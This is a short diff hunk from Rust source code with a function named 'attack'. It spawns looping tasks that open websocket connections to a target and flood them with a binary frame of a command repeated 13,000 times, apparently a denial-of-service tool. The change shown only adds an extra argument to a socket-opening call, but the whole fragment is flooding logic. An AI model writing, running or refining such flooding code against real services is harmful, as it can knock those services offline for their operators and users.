@@ -32,7 +32,7 @@ pub async fn attack(target: &'static Target) {
         tokio::spawn(again_and_again(move || {
             let first = first.clone();
             async move {
-                let stream = sockets::open(target, address(6, n, SOCKETS), "/connection/websocket?format=protobuf").await?;
+                let stream = sockets::open(target, address(6, n, SOCKETS), "/connection/websocket?format=protobuf", None).await?;
                 sockets::flood(stream, &first, &frame(BINARY, &COMMAND.repeat(13_000))).await
             }
         }));
